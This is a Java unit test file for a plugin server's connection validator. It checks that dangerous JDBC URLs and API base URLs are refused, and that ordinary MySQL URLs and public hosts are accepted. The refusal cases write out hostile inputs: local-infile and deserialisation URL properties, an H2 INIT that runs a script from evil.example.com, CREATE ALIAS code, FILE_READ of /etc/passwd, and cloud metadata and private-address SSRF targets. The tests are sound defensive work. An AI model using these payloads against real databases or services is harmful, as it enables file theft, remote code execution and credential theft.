package sh.smarter.prompt.core.plugintarget;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.net.InetAddress;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import sh.smarter.prompt.core.access.Principal;
import sh.smarter.prompt.core.error.ErrorKind;
import sh.smarter.prompt.core.error.PromptException;
import sh.smarter.prompt.core.inmemory.InMemoryResourceCatalog;
import sh.smarter.prompt.core.json.Json;
import sh.smarter.prompt.core.json.JsonObject;
import sh.smarter.prompt.core.json.JsonString;
import sh.smarter.prompt.core.resource.Account;
import sh.smarter.prompt.core.resource.AccountNumber;
import sh.smarter.prompt.core.resource.ApiConnection;
import sh.smarter.prompt.core.resource.Plugin;
import sh.smarter.prompt.core.resource.PluginData;
import sh.smarter.prompt.core.resource.PluginSelector;
import sh.smarter.prompt.core.resource.Secret;
import sh.smarter.prompt.core.resource.SqlConnection;
import sh.smarter.prompt.core.resourceadmin.ResourceService;
import sh.smarter.prompt.core.tool.PluginRunner;

/**
 * Each plugin target rule refuses its case when a connection is applied, naming the field and the rule and storing
 * nothing, and again when a connection stored before the rule existed is called. What the rules leave alone
 * (ordinary MySQL URLs, public API hosts, what the operator allowed) is accepted.
 */
class PluginTargetsTest {
    private static final Instant NOW = Instant.parse("2026-12-06T03:00:00Z");
    private static final String EMBEDDED = "jdbc:h2:file:/var/lib/prompt/smarter-prompt;MODE=MySQL;AUTO_SERVER=TRUE";
    private static final String OWN_MYSQL = "jdbc:mysql://db.example.com:3306/prompt?characterEncoding=UTF-8";

    private final InMemoryResourceCatalog catalog = new InMemoryResourceCatalog();
    /** An installation on H2 that allows H2 for plugins, so that the H2 rules behind the driver rule are reached. */
    private final PluginTargets h2Allowed = PluginTargets.defaults().allowingSqlDrivers(List.of("h2"))
            .protecting(new OwnDatabase(EMBEDDED)).protecting(new OwnDatabase(OWN_MYSQL));

    static Stream<Arguments> refusedSqlUrls() {
        return Stream.of(
                // sql-driver: only the operator adds drivers
                arguments("jdbc:postgresql://db.example.com/x", PluginTargets.defaults(), "sql-driver", "postgresql"),
                arguments("jdbc:h2:mem:x", PluginTargets.defaults(), "sql-driver", "h2 driver is not enabled"),
                arguments(EMBEDDED.replace("/var/lib/prompt", "~/x"), PluginTargets.defaults(), "sql-driver", "h2"),
                // sql-url-form: one plain host
                arguments("jdbc:mysql:loadbalance://a.example.com,b.example.com/x", null, "sql-url-form", "one host"),
                arguments("jdbc:mysql://a.example.com,b.example.com/x", null, "sql-url-form", "one host"),
                arguments("jdbc:mysql+srv://_mysql._tcp.example.com/x", null, "sql-url-form", "DNS SRV"),
                arguments("jdbc:mysql://address=(host=a.example.com)(allowLoadLocalInfile=true)/x", null,
                        "sql-url-form", "one host"),
                arguments("jdbc:mysql://(host=a.example.com,port=3306,autoDeserialize=true)/x", null, "sql-url-form",
                        "one host"),
                arguments("jdbc:mariadb:replication://a.example.com/x", null, "sql-url-form", "replication"),
                arguments("jdbc:h2:zip:/tmp/data.zip!/db", null, "sql-url-form", "zip:"),
                arguments("jdbc:h2:split:/tmp/db", null, "sql-url-form", "split:"),
                // sql-url-property: files, code, deserialisation
                arguments("jdbc:mysql://db.example.com/x?allowLoadLocalInfile=true", null, "sql-url-property",
                        "property allowLoadLocalInfile"),
                arguments("jdbc:mysql://db.example.com/x?useSSL=false&ALLOWLOADLOCALINFILE=true", null,
                        "sql-url-property", "property ALLOWLOADLOCALINFILE"),
                arguments("jdbc:mysql://db.example.com/x?allow%4CoadLocalInfile=true", null, "sql-url-property",
                        "property allowLoadLocalInfile"),
                arguments("jdbc:mysql://db.example.com/x?allowLoadLocalInfileInPath=/", null, "sql-url-property",
                        "allowLoadLocalInfileInPath"),
                arguments("jdbc:mariadb://db.example.com/x?allowLocalInfile=true", null, "sql-url-property",
                        "property allowLocalInfile"),
                arguments("jdbc:mysql://db.example.com/x?allowUrlInLocalInfile=true", null, "sql-url-property",
                        "property allowUrlInLocalInfile"),
                arguments("jdbc:mysql://db.example.com/x?autoDeserialize=true", null, "sql-url-property",
                        "property autoDeserialize"),
                arguments("jdbc:mysql://db.example.com/x?queryInterceptors=com.example.Evil", null,
                        "sql-url-property", "property queryInterceptors"),
                arguments("jdbc:mysql://db.example.com/x?statementInterceptors=com.example.Evil", null,
                        "sql-url-property", "statementInterceptors"),
                arguments("jdbc:mysql://db.example.com/x?connectionLifecycleInterceptors=a.B", null,
                        "sql-url-property", "connectionLifecycleInterceptors"),
                arguments("jdbc:mysql://db.example.com/x?exceptionInterceptors=a.B", null, "sql-url-property",
                        "exceptionInterceptors"),
                arguments("jdbc:mysql://db.example.com/x?socketFactory=a.B", null, "sql-url-property",
                        "property socketFactory"),
                arguments("jdbc:mysql://db.example.com/x?propertiesTransform=a.B", null, "sql-url-property",
                        "propertiesTransform"),
                arguments("jdbc:mysql://db.example.com/x?serverRsaPublicKeyFile=/etc/passwd", null,
                        "sql-url-property", "serverRsaPublicKeyFile"),
                arguments("jdbc:mysql://db.example.com/x?trustCertificateKeyStoreUrl=file:/etc/x", null,
                        "sql-url-property", "trustCertificateKeyStoreUrl"),
                arguments("jdbc:mysql://db.example.com/x?authenticationPlugins=a.B", null, "sql-url-property",
                        "authenticationPlugins"),
                arguments("jdbc:mysql://db.example.com/x?allowMultiQueries=true", null, "sql-url-property",
                        "allowMultiQueries"),
                arguments("jdbc:mariadb://db.example.com/x?credentialType=ENV", null, "sql-url-property",
                        "credentialType"),
                arguments("jdbc:mariadb://db.example.com/x?localSocket=/run/mysqld/mysqld.sock", null,
                        "sql-url-property", "localSocket"),
                // H2, when the operator allows it: no code or files through the URL's settings
                arguments("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example.com/x.sql'", null,
                        "sql-url-property", "setting INIT"),
                arguments("jdbc:h2:mem:x;init=CREATE ALIAS X AS 'String x() { return \"\"; }'", null,
                        "sql-url-property", "setting init"),
                arguments("jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.example.Evil'", null, "sql-url-property",
                        "DATABASE_EVENT_LISTENER"),
                arguments("jdbc:h2:mem:x;MODE=MySQL\\;RUNSCRIPT FROM '/tmp/x.sql'", null, "sql-url-property",
                        "RUNSCRIPT"),
                arguments("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", null, "sql-url-property", "TRACE_LEVEL_FILE"),
                // own-database: never the installation's store, however it is spelled
                arguments(EMBEDDED, null, "own-database", "/var/lib/prompt/smarter-prompt"),
                arguments("jdbc:h2:/var/lib/prompt/../prompt/smarter-prompt;IFEXISTS=TRUE", null, "own-database",
                        "stores its sessions"),
                arguments("jdbc:h2:tcp://localhost:9092//var/lib/prompt/smarter-prompt", null, "own-database",
                        "stores its sessions"),
                arguments("jdbc:mysql://DB.example.com/prompt", null, "own-database", "db.example.com:3306/prompt"),
                arguments("jdbc:mariadb://db.example.com:3306/PROMPT?useSSL=true", null, "own-database", "PROMPT"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedSqlUrls")
    void a_sql_connection_is_refused_at_apply_with_the_field_and_rule_and_nothing_is_stored(String url,
            PluginTargets targets, String rule, String mention) {
        ResourceService service = new ResourceService(catalog, clock(), targets == null ? h2Allowed : targets);

        assertThatThrownBy(() -> service.apply(sqlConnection(url), Principal.OPERATOR))
                .isInstanceOfSatisfying(PromptException.class, e -> {
                    assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_INPUT);
                    assertThat(e.getMessage()).startsWith("spec.connection.url is refused by the plugin target rule "
                            + rule + ": ").contains(mention);
                });
        assertThat(catalog.listAccounts()).as("not even the default account is created").isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:mysql://db.example.com:3306/courses?useSSL=true&serverTimezone=UTC",
            "jdbc:mysql://reader:pw@10.0.0.5/courses", "jdbc:mariadb://db.example.com/courses",
            "jdbc:mysql://db.example.com:3307/prompt", "jdbc:mysql://other.example.com/prompt",
            "jdbc:mysql://db.example.com/prompt_reports", "jdbc:mysql://[2001:db8::1]:3306/courses"})
    void ordinary_mysql_urls_and_other_databases_on_the_same_server_are_accepted(String url) {
        ResourceService service = new ResourceService(catalog, clock(), h2Allowed);

        assertThat(service.apply(sqlConnection(url), Principal.OPERATOR).outcome().name()).isEqualTo("CREATED");
    }

    @Test
    void h2_is_accepted_once_the_operator_allows_it_for_databases_other_than_the_store() {
        ResourceService service = new ResourceService(catalog, clock(), h2Allowed);

        service.apply(sqlConnection("jdbc:h2:~/courses;MODE=MySQL;DATABASE_TO_LOWER=TRUE;AUTO_SERVER=TRUE"),
                Principal.OPERATOR);

        assertThat(catalog.listSqlConnections(catalog.listAccounts().get(0).id())).hasSize(1);
    }

    @Test
    void a_sql_plugin_on_h2_may_not_call_h2_file_functions() {
        ResourceService service = new ResourceService(catalog, clock(), h2Allowed);
        service.apply(sqlConnection("jdbc:h2:mem:courses"), Principal.OPERATOR);

        assertThatThrownBy(() -> service.apply(sqlPlugin("SELECT file_read('/etc/passwd') AS x"),
                Principal.OPERATOR)).hasMessage("spec.sqlData.sqlQuery is refused by the plugin target rule "
                + "h2-file-function: it calls FILE_READ, which reaches this server's files or other databases");
        assertThatThrownBy(() -> service.apply(sqlPlugin("SELECT * FROM CSVREAD ('/etc/passwd')"),
                Principal.OPERATOR)).hasMessageContaining("h2-file-function: it calls CSVREAD");
        assertThat(service.apply(sqlPlugin("SELECT title FROM courses"), Principal.OPERATOR).outcome().name())
                .isEqualTo("CREATED");
    }

    static Stream<Arguments> refusedApiUrls() {
        return Stream.of(arguments("http://127.0.0.1:8080/", "resolves to 127.0.0.1, a loopback address"),
                arguments("http://127.1/", "the URL has no host"), // what java.net.URI makes of it
                arguments("http://2130706433/", "a loopback address"),
                arguments("http://localhost:9000/api/", "names this machine or a cloud metadata service"),
                arguments("http://api.localhost/", "names this machine"),
                arguments("http://[::1]/", "a loopback address"),
                arguments("http://[::ffff:127.0.0.1]/", "a loopback address"),
                arguments("http://0.0.0.0/", "the unspecified address"),
                arguments("http://10.1.2.3/", "a private address"),
                arguments("http://172.16.0.1/", "a private address"),
                arguments("http://192.168.1.1/", "a private address"),
                arguments("http://169.254.169.254/latest/meta-data/", "169.254.169.254, a link-local address"),
                arguments("http://[fe80::1]/", "a link-local address"),
                arguments("http://[fd00:ec2::254]/", "unique-local"),
                arguments("http://[fc00::1]/", "unique-local"),
                arguments("http://metadata.google.internal/computeMetadata/v1/", "cloud metadata"),
                arguments("http://100.100.100.200/", "a shared address"),
                arguments("http://[64:ff9b::a9fe:a9fe]/", "a link-local address"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedApiUrls")
    void an_api_connection_to_a_local_private_or_metadata_address_is_refused_at_apply(String url, String mention) {
        ResourceService service = new ResourceService(catalog, clock(), PluginTargets.defaults());

        assertThatThrownBy(() -> service.apply(apiConnection(url), Principal.OPERATOR))
                .isInstanceOf(PromptException.class)
                .hasMessageStartingWith("spec.connection.baseUrl is refused by the plugin target rule api-address: ")
                .hasMessageContaining(mention);
        assertThat(catalog.listAccounts()).isEmpty();
    }

    @Test
    void an_api_host_the_operator_allows_and_public_hosts_are_accepted() {
        ResourceService service = new ResourceService(catalog, clock(),
                PluginTargets.defaults().allowingApiHosts(List.of("127.0.0.1", "[::1]", "internal.example.com")));

        for (String url : List.of("http://127.0.0.1:8080/", "http://[0:0:0:0:0:0:0:1]:8080/",
                "https://internal.example.com/", "https://api.example.com/", "http://93.184.215.14/")) {
            assertThat(service.apply(apiConnection(url), Principal.OPERATOR).outcome().name()).as(url)
                    .isEqualTo("CREATED");
        }
    }

    @Test
    void the_address_a_name_resolves_to_is_what_counts() throws Exception {
        PluginTargets targets = PluginTargets.defaults().allowingApiHosts(List.of("allowed.example.com"));
        InetAddress internal = InetAddress.getByAddress("internal.example.com", new byte[] {10, 0, 0, 5});
        InetAddress metadata = InetAddress.getByAddress("rebind.example.com", new byte[] {(byte) 169, (byte) 254,
                (byte) 169, (byte) 254});

        assertThat(targets.checkApiAddress("internal.example.com", internal, "f")).hasValueSatisfying(refusal ->
                assertThat(refusal.message()).isEqualTo("f is refused by the plugin target rule api-address: "
                        + "internal.example.com resolves to 10.0.0.5, a private address; this server calls no such "
                        + "address unless the operator allows the host in the server settings"));
        assertThat(targets.checkApiAddress("rebind.example.com", metadata, "f")).isPresent();
        assertThat(targets.checkApiAddress("allowed.example.com", internal, "f")).isEmpty();
        assertThat(targets.checkApiAddress("api.example.com",
                InetAddress.getByAddress(new byte[] {93, (byte) 184, (byte) 215, 14}), "f")).isEmpty();
    }

    @Test
    void connections_stored_before_the_rules_existed_are_refused_when_a_plugin_calls_them() {
        Account account = catalog.saveAccount(new Account(0, AccountNumber.parse("3141-5926-5359"), "A", NOW));
        catalog.saveSqlConnection(new SqlConnection(0, account.id(), "own_db", EMBEDDED, "sa", Secret.NONE, 5, NOW,
                null));
        catalog.saveApiConnection(new ApiConnection(0, account.id(), "metadata", "http://169.254.169.254/", "none",
                null, Secret.NONE, 5, NOW, null));
        Plugin sql = catalog.savePlugin(new Plugin(0, account.id(), "sessions", "Reads sessions", null,
                PluginSelector.ALWAYS, null, List.of(), new PluginData.SqlData("own_db",
                "SELECT session_key FROM sessions", 10), NOW, null));
        Plugin api = catalog.savePlugin(new Plugin(0, account.id(), "credentials", "Reads metadata", null,
                PluginSelector.ALWAYS, null, List.of(), new PluginData.ApiData("metadata", "/latest/", "GET", null),
                NOW, null));
        List<String> calls = new java.util.ArrayList<>();
        PluginRunner runner = new PluginRunner(catalog, (connection, query, arguments) -> {
            calls.add(connection.name());
            return Json.of("rows");
        }, (connection, call, arguments) -> {
            calls.add(connection.name());
            return Json.of("answer");
        }, h2Allowed);

        assertThat(error(runner.run(sql, JsonObject.EMPTY))).isEqualTo("SQL connection own_db cannot be used: "
                + "spec.connection.url is refused by the plugin target rule own-database: it points at the database "
                + "this installation stores its sessions and resources in (/var/lib/prompt/smarter-prompt)");
        assertThat(error(runner.run(api, JsonObject.EMPTY))).startsWith("API connection metadata cannot be used: "
                + "spec.connection.baseUrl is refused by the plugin target rule api-address: 169.254.169.254 ");
        assertThat(calls).as("no adapter was called").isEmpty();
    }

    @Test
    void a_connection_may_not_take_its_credential_from_the_servers_own_variables() {
        ResourceService service = new ResourceService(catalog, clock(), PluginTargets.defaults());
        String sql = "{\"apiVersion\": \"smarter.sh/v1\", \"kind\": \"SqlConnection\", \"metadata\": {\"name\": "
                + "\"db\"}, \"spec\": {\"connection\": {\"url\": \"jdbc:mysql://db.example.com/x\", \"username\": "
                + "\"prompt\", \"passwordEnv\": \"%s\"}}}";
        String api = "{\"apiVersion\": \"smarter.sh/v1\", \"kind\": \"ApiConnection\", \"metadata\": {\"name\": "
                + "\"api\"}, \"spec\": {\"connection\": {\"baseUrl\": \"https://collector.example.com/\", "
                + "\"authenticationMethod\": \"bearer\", \"apiKeyEnv\": \"%s\"}}}";

        assertThatThrownBy(() -> service.apply((JsonObject) Json.parse(sql.formatted("SMARTER_PROMPT_DB_PASSWORD")),
                Principal.OPERATOR)).hasMessage("spec.connection.passwordEnv is refused by the plugin target rule "
                + "secret-env: SMARTER_PROMPT_DB_PASSWORD is one of this server's own settings; a plugin connection's "
                + "target would receive it");
        for (String variable : List.of("OPENAI_API_KEY", "GEMINI_API_KEY", "LLAMA_API_KEY")) {
            assertThatThrownBy(() -> service.apply((JsonObject) Json.parse(api.formatted(variable)),
                    Principal.OPERATOR)).hasMessageStartingWith("spec.connection.apiKeyEnv is refused by the plugin "
                    + "target rule secret-env: " + variable);
        }
        assertThat(catalog.listAccounts()).isEmpty();
        assertThat(service.apply((JsonObject) Json.parse(api.formatted("COLLECTOR_TOKEN")), Principal.OPERATOR)
                .outcome().name()).isEqualTo("CREATED");
    }

    @Test
    void operator_settings_are_checked_too() {
        assertThatThrownBy(() -> PluginTargets.defaults().allowingSqlDrivers(List.of("h2;INIT=x")))
                .hasMessage("not a valid SQL driver: h2;INIT=x");
        assertThat(PluginTargets.defaults().allowingSqlDrivers(List.of(" H2 ")).sqlDrivers())
                .containsExactlyInAnyOrder("mysql", "mariadb", "h2");
        assertThat(Path.of("/var/lib/prompt/smarter-prompt").toString()).isEqualTo(
                JdbcUrl.parse(EMBEDDED).orElseThrow().place());
    }

    private static String error(Json result) {
        return ((JsonString) ((JsonObject) result).get("error")).value();
    }

    private static Clock clock() {
        return Clock.fixed(NOW, ZoneOffset.UTC);
    }

    private static JsonObject sqlConnection(String url) {
        return (JsonObject) Json.parse("{\"apiVersion\": \"smarter.sh/v1\", \"kind\": \"SqlConnection\","
                + " \"metadata\": {\"name\": \"target_db\"}, \"spec\": {\"connection\": {\"url\": "
                + new JsonString(url).toJson() + ", \"username\": \"reader\"}}}");
    }

    private static JsonObject sqlPlugin(String query) {
        return (JsonObject) Json.parse("{\"apiVersion\": \"smarter.sh/v1\", \"kind\": \"SqlPlugin\","
                + " \"metadata\": {\"name\": \"reader\"}, \"spec\": {\"selector\": {\"directive\": \"always\"},"
                + " \"connection\": \"target_db\", \"sqlData\": {\"description\": \"Reads\", \"sqlQuery\": "
                + new JsonString(query).toJson() + "}}}");
    }

    private static JsonObject apiConnection(String url) {
        return (JsonObject) Json.parse("{\"apiVersion\": \"smarter.sh/v1\", \"kind\": \"ApiConnection\","
                + " \"metadata\": {\"name\": \"target_api_" + Math.abs(url.hashCode()) + "\"}, \"spec\": {"
                + "\"connection\": {\"baseUrl\": " + new JsonString(url).toJson() + "}}}");
    }
}
